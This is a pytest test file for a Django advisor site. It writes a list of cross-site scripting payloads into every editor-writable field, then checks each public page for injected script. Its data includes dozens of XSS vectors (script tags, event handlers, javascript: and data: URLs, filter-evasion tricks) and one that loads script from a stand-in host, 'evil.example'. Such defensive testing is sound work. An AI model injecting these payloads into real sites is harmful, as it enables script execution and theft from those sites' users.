"""Editor-written text can never run script on a public page.

Each XSS vector is written into every text field an editor can fill in
(providers, licences, models, criteria and their Markdown, scores, sources,
audience presets), saved through the ORM as the admin would save it (and once
through the admin forms themselves). Then every public page is fetched, a
result made *after* the edit included, and checked: no ``<script>`` other
than our own static files, no ``on*=`` event-handler attribute, no
``javascript:``/``data:`` URL, no frame, object, base or refresh, no inline
style. JSON endpoints must stay JSON. The default tier sweeps a sample of the
vectors; the slow tier sweeps the rest.
"""

import datetime
import json
import re
from html.parser import HTMLParser

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse

from advisor import models
from tests.conftest import CRITERION_SLUGS, ai_model_build, complete_answers, publish

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[y][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<img src="x" onerror="alert(1)"',
    "<div onclick=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ request.META }}{% debug %}",
    "\u2028\u2029<script>alert(1)</script>",
    '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><a href="javascript:alert(1)">x</a></math>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "*emphasis* <b onmouseover=alert(1)>bold</b> `<script>alert(1)</script>`",
]

# What URL fields get (URLField rejects these in a form, but the ORM stores anything).
URL_VECTORS = [
    "javascript:alert(1)",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://x.example/"><script>alert(1)</script>',
    'https://x.example/" onmouseover="alert(1)',
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset", "background", "cite"}
FORBIDDEN_ELEMENTS = {"iframe", "frame", "object", "embed", "base", "applet", "style", "meta-refresh"}
OUR_SCRIPT = re.compile(r'<script src="/static/[^"<>]+"(?: defer)?>', re.IGNORECASE)


def _dangerous_url(value):
    # Browsers ignore ASCII whitespace and control characters inside a scheme.
    squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
    return squeezed.startswith(("javascript:", "vbscript:", "data:"))


class _Checker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/static/"):
                self.problems.append(f"<script> not from /static/: {attrs}")
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")
            if name == "style":
                self.problems.append(f"<{tag} style=...>")
            if name in URL_ATTRIBUTES and value and _dangerous_url(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if tag == "meta" and name == "http-equiv" and (value or "").lower() == "refresh":
                self.problems.append("<meta http-equiv=refresh>")

    handle_startendtag = handle_starttag


def _raw_tag_problems(html):
    """A second, parser-independent look at the raw markup.

    Escaped text never contains a raw ``<`` followed by a letter, so every
    such match is real markup; with quoted attribute values removed, what is
    left must hold no event handler and no ``javascript:``.
    """
    problems = []
    for match in re.finditer(r"<script\b[^>]*>", html, re.IGNORECASE):
        if not OUR_SCRIPT.fullmatch(match.group(0)):
            problems.append(f"raw {match.group(0)!r}")
    for match in re.finditer(r"<[a-zA-Z][^>]*>", html):
        unquoted = re.sub(r"\"[^\"]*\"|'[^']*'", '""', match.group(0))
        if re.search(r"[\s/\"']on[a-z]+\s*=", unquoted, re.IGNORECASE):
            problems.append(f"raw event handler in {match.group(0)[:120]!r}")
        if re.search(r"javascript:", unquoted, re.IGNORECASE):
            problems.append(f"raw javascript: in {match.group(0)[:120]!r}")
    return problems


def page_problems(response):
    html = response.content.decode()
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.problems + _raw_tag_problems(html)


def test_the_checker_catches_what_it_should():
    page = type("Page", (), {})()
    page.content = (
        b'<p>ok</p><script src="/static/js/app.js" defer></script><script>alert(1)</script>'
        b'<img src=x onerror=alert(1)><a href=" jav&#x09;ascript:alert(1)">x</a><svg/onload=alert(1)>'
        b'<a href="data:text/html,x">d</a><iframe src="/x"></iframe><p style="x">s</p>'
        b'<span title="&quot; onmouseover=&quot;alert(1)">harmless</span>'
    )
    problems = page_problems(page)
    assert any("not from /static/" in p for p in problems)
    assert any("onerror" in p for p in problems)
    assert any("onload" in p for p in problems)
    assert sum(p.startswith("<a href=") for p in problems) == 2
    assert any("<iframe>" in p for p in problems)
    assert any("style" in p for p in problems)
    assert not any("harmless" in p or "onmouseover" in p for p in problems)


# --- The catalogue, with a vector in every editor-writable text field --------


def fit(value, max_length, suffix=""):
    return (value[: max_length - len(suffix)] + suffix) if max_length else value + suffix


def poisoned_catalogue(vector, url):
    """Two published models (one open, one API-only) with the vector everywhere an editor can write, published."""
    with transaction.atomic():  # one transaction for all the rows, not one per row
        built = _poisoned_catalogue(vector, url)
    publish()
    return built


def _poisoned_catalogue(vector, url):
    criteria = [
        models.Criterion.objects.create(
            slug=slug,
            name=fit(vector, 100, f" {position}"),
            position=position,
            summary=fit(vector, 300),
            open_view=vector,
            closed_view=f"Closed: {vector}",
            scoring_rule=f"- {vector}\n- rule",
            from_article=position < 9,
        )
        for position, slug in enumerate(CRITERION_SLUGS)
    ]
    licences = [
        models.Licence.objects.create(
            slug=slug,
            name=fit(vector, 200, f" {slug}"),
            spdx_id=fit(vector, 60),
            category=category,
            commercial_use="yes",
            may_modify=True,
            may_redistribute=True,
            may_fine_tune=True,
            outputs_may_train_models="yes",
            obligations=f"{vector}\nKeep the notice: {vector}",
            notable_clauses=f"{vector}\n{vector}",
            thresholds=[
                {"kind": "mau", "value": 100_000_000, "effect": "separate-licence", "note": vector},
                {"kind": "monthly_revenue_usd", "value": 20_000_000, "effect": "other", "note": vector},
            ],
            use_restrictions=[
                {"use": "military", "rule": "forbidden", "clause": vector, "source": vector},
                {"use": "other", "rule": "conditional", "condition": vector, "clause": vector, "source": vector},
            ],
            fine_tuning_until=datetime.date(2099, 1, 6),
            fine_tuning_until_source=vector,
            url=url,
        )
        for slug, category in (("open-terms", "permissive"), ("api-terms", "proprietary-api"))
    ]
    providers = [
        models.Provider.objects.create(
            name=fit(vector, 100, f" {n}"), slug=f"provider-{n}", country=fit(vector, 100), website=url
        )
        for n in (1, 2)
    ]
    common = {
        "name": fit(vector, 200),
        "parameters": fit(vector, 100),
        "languages": fit(vector, 300),
        "language_codes": ["en", "fr", "de"],
        "language_coverage": "broad",
        "strengths": f"{vector}\nFast",
        "notes": f"{vector}\n\nMore: {vector}",
        "modalities": ["text", "image"],
        "context_window": 128000,
    }
    ai_models = [
        ai_model_build(
            1,
            slug="open-one",
            provider=providers[0],
            licence=licences[0],
            replacement="api-one",
            fine_tuning_until=datetime.date(2020, 1, 6),
            fine_tuning_until_source=vector,
            **common,
        ),
        ai_model_build(
            2,
            slug="api-one",
            provider=providers[1],
            licence=licences[1],
            access="api-only",
            weights_available=False,
            deployment=["vendor-api"],
            fine_tuning=[],
            min_gpu_memory_gb=None,
            lifecycle="deprecated",
            shutdown_date=datetime.date(2099, 1, 1),
            replacement=fit(vector, 100),
            lifecycle_source=vector,
            **common,
        ),
    ]
    for ai_model in ai_models:
        ai_model.save()
        for position, criterion in enumerate(criteria):
            models.Score.objects.create(
                ai_model=ai_model,
                criterion=criterion,
                value=(position * 3) % 11,
                rationale=fit(vector, 500),
                is_override=position == 0,
                override_reason=fit(vector, 300) if position == 0 else "",
            )
        models.Source.objects.create(ai_model=ai_model, url=url, title=fit(vector, 600), as_of="2025-06")
    for licence in licences:
        models.Source.objects.create(licence=licence, url=url, title=fit(vector, 600), as_of="2025")
    models.AudiencePreset.objects.create(
        slug="poisoned",
        name=fit(vector, 100),
        description=vector,
        answers={**complete_answers(), "deployment": vector, vector[:40]: vector},
    )
    return ai_models, licences


def public_pages(client, ai_models, licences):
    """Every public page, including a result made after the edit; yields (url, response)."""
    submitted = client.post(reverse("advisor:questionnaire"), complete_answers())
    assert submitted.status_code == 303, submitted.content.decode()[:500]
    permalink = submitted["Location"]
    code = permalink.strip("/").split("/")[-1]
    api = client.post(
        reverse("api:recommendations"),
        json.dumps({"answers": complete_answers()}),
        content_type="application/json",
    )
    assert api.status_code == 201
    urls = [
        reverse("advisor:home"),
        reverse("advisor:questionnaire"),
        reverse("advisor:questionnaire") + "?preset=poisoned",
        reverse("advisor:questionnaire") + f"?from={code}",
        permalink,
        api.json()["permalink"].removeprefix("http://testserver"),
        reverse("advisor:recommendation-reevaluate", kwargs={"code": code}),
        reverse("advisor:model-list"),
        reverse("advisor:model-list") + "?sort=name&access=open-weights",
        reverse("advisor:licence-list"),
        reverse("advisor:criteria"),
        reverse("advisor:compare"),
        reverse("advisor:compare") + f"?m={ai_models[0].slug}&m={ai_models[1].slug}",
        reverse("advisor:compare") + f"?m={ai_models[0].slug}",
    ]
    urls += [m.get_absolute_url() for m in ai_models] + [licence.get_absolute_url() for licence in licences]
    json_urls = [
        reverse("advisor:recommendation-json", kwargs={"code": code}),
        reverse("api:questionnaire"),
        reverse("api:openapi-json"),
    ]
    for url in urls:
        yield url, client.get(url)
    for url in json_urls:
        yield url, client.get(url)


def assert_every_page_is_clean(client, ai_models, licences, vector):
    seen_payload = False
    for url, response in public_pages(client, ai_models, licences):
        assert response.status_code in (200, 400), (url, response.status_code)
        content_type = response["Content-Type"]
        if url.endswith(".json") or "/api/" in url:
            assert content_type.startswith("application/json"), (url, content_type)
            json.loads(response.content)
            continue
        assert content_type.startswith("text/html"), (url, content_type)
        assert page_problems(response) == [], (vector, url)
        seen_payload = seen_payload or "alert(" in response.content.decode()
    # The pages did show the editors' text (escaped or sanitised), not an empty catalogue.
    assert seen_payload or "alert(" not in vector


# The default tier sweeps every seventh vector: a spread over the kinds and, as 7 and the 8 URL
# vectors share no factor, each URL vector once. The slow tier sweeps the others.
QUICK_SWEEP = range(0, len(VECTORS), 7)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "index",
    [pytest.param(n, id=f"v{n:02d}", marks=() if n in QUICK_SWEEP else pytest.mark.slow) for n in range(len(VECTORS))],
)
def test_no_vector_in_any_editor_field_runs_on_a_public_page(index):
    vector = VECTORS[index]
    ai_models, licences = poisoned_catalogue(vector, URL_VECTORS[index % len(URL_VECTORS)])
    client = Client()
    assert_every_page_is_clean(client, ai_models, licences, vector)


def test_there_are_enough_vectors():
    assert len(VECTORS) >= 30


@pytest.mark.django_db
def test_markdown_is_sanitised_when_saved_not_when_shown():
    criterion = models.Criterion.objects.create(
        slug="x",
        name="X",
        summary="s",
        open_view="[x](javascript:alert(1)) <script>alert(1)</script> **ok**",
        closed_view="<img src=x onerror=alert(1)>",
        scoring_rule="[fine](https://example.org/)",
    )
    criterion.refresh_from_db()
    assert "javascript" not in criterion.open_view_html
    assert "<script" not in criterion.open_view_html
    assert "<strong>ok</strong>" in criterion.open_view_html
    assert "onerror" not in criterion.closed_view_html
    assert 'href="https://example.org/"' in criterion.scoring_rule_html


# --- The same through the admin's own forms ----------------------------------


class _FormValues(HTMLParser):
    """The values a browser would submit for the admin change form, as it was rendered."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.values = {}
        self._textarea = None
        self._select = None
        self._in_form = False

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form" and a.get("method", "").lower() == "post":
            self._in_form = True
        if not self._in_form:
            return
        name = a.get("name")
        if tag == "input" and name:
            kind = a.get("type", "text")
            if kind in ("checkbox", "radio"):
                if "checked" in a:
                    self.values.setdefault(name, []).append(a.get("value", "on"))
            elif kind not in ("submit", "button", "file"):
                self.values.setdefault(name, []).append(a.get("value", ""))
        elif tag == "textarea" and name:
            self._textarea = name
            self.values.setdefault(name, []).append("")
        elif tag == "select" and name:
            self._select = name
            self.values.setdefault(name, [])
        elif tag == "option" and self._select and "selected" in a:
            self.values[self._select].append(a.get("value", ""))

    def handle_data(self, data):
        if self._textarea:
            self.values[self._textarea][-1] += data

    def handle_endtag(self, tag):
        if tag == "textarea":
            if self._textarea and self.values[self._textarea][-1].startswith("\n"):
                self.values[self._textarea][-1] = self.values[self._textarea][-1][1:]
            self._textarea = None
        elif tag == "select":
            self._select = None
        elif tag == "form":
            self._in_form = False


def admin_save(client, obj, **changes):
    """Change ``obj`` through its admin change form, as an editor in a browser would."""
    url = reverse(f"admin:advisor_{obj._meta.model_name}_change", args=[obj.pk])
    page = client.get(url)
    assert page.status_code == 200
    parser = _FormValues()
    parser.feed(page.content.decode())
    data = {name: values for name, values in parser.values.items() if values}
    for name, value in changes.items():
        data[name] = [value]
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[-3000:]
    return response


@pytest.mark.django_db
@pytest.mark.parametrize("index", [0, 13, 21, 47])
def test_vectors_saved_through_the_admin_forms_stay_harmless(editor_client, index):
    vector = VECTORS[index]
    ai_models, licences = poisoned_catalogue("Plain text", "https://example.org/terms")
    criterion = models.Criterion.objects.get(slug="transparency")
    admin_save(
        editor_client,
        criterion,
        name=f"{vector[:90]} c",
        summary=vector,
        open_view=vector,
        closed_view=vector,
        scoring_rule=vector,
    )
    admin_save(editor_client, ai_models[0].provider, name=f"{vector[:90]} p", country=vector[:100])
    admin_save(
        editor_client,
        licences[0],
        name=f"{vector[:150]} l",
        obligations=vector,
        notable_clauses=vector,
        spdx_id=vector[:60],
    )
    admin_save(editor_client, ai_models[0], name=vector[:200], strengths=vector, notes=vector, languages=vector[:300])
    score = models.Score.objects.filter(ai_model=ai_models[0]).first()
    admin_save(editor_client, score, rationale=vector)
    source = models.Source.objects.filter(ai_model=ai_models[0]).first()
    admin_save(editor_client, source, title=vector)
    # The preset admin validates answers, so the edit also replaces the poisoned answers with valid ones.
    admin_save(
        editor_client,
        models.AudiencePreset.objects.get(),
        name=vector[:100],
        description=vector,
        answers=json.dumps({"use_case": "research"}),
    )

    criterion.refresh_from_db()
    assert criterion.open_view == vector  # stored as written...
    assert "<script" not in criterion.open_view_html  # ...and sanitised once, at save
    ai_models[0].refresh_from_db()
    assert ai_models[0].notes == vector

    publish()  # what readers see is what an editor published
    editor_client.logout()
    assert_every_page_is_clean(Client(), ai_models, licences, vector)


@pytest.mark.django_db
def test_the_admin_refuses_a_javascript_url(editor_client):
    _ai_models, licences = poisoned_catalogue("Plain text", "https://example.org/terms")
    url = reverse("admin:advisor_licence_change", args=[licences[0].pk])
    parser = _FormValues()
    parser.feed(editor_client.get(url).content.decode())
    data = {name: values for name, values in parser.values.items() if values}
    data["url"] = ["javascript:alert(1)"]
    response = editor_client.post(url, data)
    assert response.status_code == 200  # the form again, with an error
    licences[0].refresh_from_db()
    assert licences[0].url == "https://example.org/terms"
